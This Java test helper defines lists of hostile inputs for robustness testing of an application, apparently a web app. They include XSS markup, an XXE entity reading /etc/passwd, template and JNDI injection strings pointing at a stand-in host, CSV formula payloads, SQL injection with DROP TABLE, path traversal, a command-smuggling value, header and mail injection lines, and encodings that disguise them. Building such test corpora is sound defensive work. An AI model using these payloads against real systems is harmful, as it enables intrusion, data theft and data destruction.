package nl.weegwijzer.testing;

import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** The kinds of harm that a text can do, and how it can be disguised; {@link HostileWords} makes texts of them. */
final class Harm {

    static final List<String> MARKUP = eachLine("""
            <script>alert(1)</script>
            <img src=x onerror=alert(1)>
            <svg/onload=alert(1)>
            <iframe srcdoc='<script>parent.alert(1)</script>'></iframe>
            <a href="javascript:alert(1)">klik</a>
            <form action=//boos.example><input name=q autofocus onfocus=alert(1)></form>
            <style>*{display:none}</style>
            <link rel=stylesheet href=//boos.example>
            <meta http-equiv=refresh content="0;url=//boos.example">
            <base href=//boos.example/>
            <object data="data:text/html,<script>alert(1)</script>"></object>
            <details open ontoggle=alert(1)>
            <math><mi xlink:href="javascript:alert(1)">x</mi></math>
            <template><img src=x onerror=alert(1)></template>
            <vaadin-button onclick=alert(1)>klik</vaadin-button>
            " onmouseover="alert(1)" x="
            ' autofocus onfocus='alert(1)
            </textarea><script>alert(1)</script>
            </title></style></script><img src=x onerror=alert(1)>
            <!--><img src=x onerror=alert(1)>-->
            <![CDATA[<img src=x onerror=alert(1)>]]>
            <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
            <bdo dir=rtl>moorts</bdo>
            """);

    static final List<UnaryOperator<String>> DISGUISES = List.of(
            UnaryOperator.identity(),
            text -> text.toUpperCase(Locale.ROOT),
            text -> each(text, "%%%02x"),
            text -> each(text, "%%25%02x"),
            text -> each(text, "&#%d;"),
            text -> each(text, "&#x%x;"),
            text -> each(text, "\\u%04x"),
            text -> text.replace('<', '\uFF1C').replace('>', '\uFF1E').replace('"', '\uFF02'),
            text -> text.replace("<", "<\u0000").replace("=", "\u0000="),
            text -> text.replace(" ", "\t").replace("alert", "al\nert"),
            text -> text.replace("script", "scr\u200Bipt").replace("on", "o\u00ADn"),
            text -> "\uFEFF\u202E" + text + "\u202C",
            text -> "]]>\"'`-->" + text);

    static final List<String> EVENTS = words("""
            abort animationend animationstart auxclick beforecopy beforeinput beforematch beforetoggle begin blur
            cancel canplay change click close contextmenu copy cuechange cut dblclick drag dragend drop end ended
            error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid
            keydown keypress keyup load loadstart message mousedown mouseenter mousemove paste pointerdown
            pointerover pointerup popstate repeat reset resize scroll scrollend search select submit toggle
            touchend touchstart transitionend unhandledrejection wheel
            """);

    static final List<String> EXPRESSIONS = eachLine("""
            7*7
            alert(1)
            constructor.constructor('alert(1)')()
            T(java.lang.Runtime).getRuntime()
            jndi:ldap://boos.example/x
            env.PATH
            _self.env.display('x')
            request.setAttribute('x',1)
            """);

    static final List<String> BRACES = eachLine("""
            {{%s}}
            ${%s}
            #{%s}
            *{%s}
            @{%s}
            ~{%s}
            [[%s]]
            [(%s)]
            __${%s}__::.x
            <%%= %s %%>
            {%% %s %%}
            $(%s)
            `%s`
            {0,choice,%s}
            %%s%%n%%x %s
            #set($x=%s)
            """);

    static final List<String> BODIES = eachLine("""
            HYPERLINK("https://boos.example","klik")
            CMD|' /C calc'!A0
            SUM(1+1)*cmd|' /C calc'!A0
            2+3
            """);

    static final List<String> STARTS =
            List.of("=", "+", "-", "@", "\t=", "\r=", " =", "\"=", "\uFF1D", ";=", ",=", "\n=");

    static final List<String> BREAKS =
            List.of("\r\n", "\n", "\r", "\u0085", "\u2028", "\u2029", "\u000B", "\f", "%0d%0a", "\\r\\n");

    static final List<String> NEXT_LINES = List.of(
            "2026-11-22T10:00:00.000Z " + HostileWords.FORGED,
            "Set-Cookie: weegwijzer=1",
            "\r\n<h1>anders</h1>",
            "Bcc: iedereen@boos.example",
            "END:VEVENT\r\nATTENDEE:mailto:boos@boos.example",
            "\"; \"tweede cel\"; =1+1",
            "--grens\r\nContent-Type: text/html",
            "event: message\ndata: {}",
            ".\r\nMAIL FROM:<boos@boos.example>");

    static final List<String> QUERIES = eachLine("""
            '; DROP TABLE afweging; --
            ' OR '1'='1
            " OR 1=1 #
            1; SELECT SLEEP(10)
            %' ESCAPE '!
            \\' UNION SELECT 1
            _%_%
            /*! SELECT 1 */
            0x27
            CHAR(39)
            """);

    static final List<String> PATHS = eachLine("""
            ../../../etc/passwd
            ..\\..\\windows\\win.ini
            /dev/null
            file:///etc/passwd
            C:\\con\\con
            //boos.example/x
            ....//....//etc
            ~root
            x.pdf\u0000.exe
            &ping -n 9 localhost&
            """);

    static final List<String> NAMES = words("""
            null undefined true false NaN Infinity -Infinity None nil 0 -0 1e999 0x7fffffff 2147483648
            9223372036854775808 1.7976931348623157E+308 0,1 1.000,00 \u0661\u0662\u0663 \u00BD 2026-02-30
            1970-01-01T00:00:00Z 999999999-12-31 __proto__ constructor toString hasOwnProperty [object Object]
            class CON PRN NUL LPT1 .htaccess index.html - --help -rf ; \\ \\\\ " ' ` % %% & && | # ? * () {} []
            < > <> </ />
            """);

    static final List<String> COMBINED = List.of(
            "Z\u0351\u036B\u0343\u036AA\u0334\u0335L\u0320\u0368G\u0334\u033BO\u0335\u0339!",
            "e\u0301 \u00E9 e\u0301\u0301\u0301",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83C\uDDF3\uD83C\uDDF1 \u2764\uFE0F",
            "\uD83D\uDC4B\uD83C\uDFFF \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC7F",
            "\uFB01 \uFB02 \u213B \u216B \u01C4 \uFDFA",
            "\u0130 \u0131 \u017F \u212A \u00DF \u1E9E",
            "\uD835\uDC86\uD835\uDC8F \uFF42\uFF52\uFF45\uFF45\uFF44",
            "\u0627\u0644\u0639\u0645\u0644 abc \u05E2\u05D1\u05D5\u05D3\u05D4 123");

    private Harm() {}

    private static List<String> words(String block) {
        return List.of(block.strip().split("\\s+"));
    }

    private static List<String> eachLine(String block) {
        return block.lines().toList();
    }

    private static String each(String text, String format) {
        return IntStream.range(0, text.length())
                .mapToObj(text::charAt)
                .map(c -> format.formatted((int) c))
                .collect(Collectors.joining());
    }
}
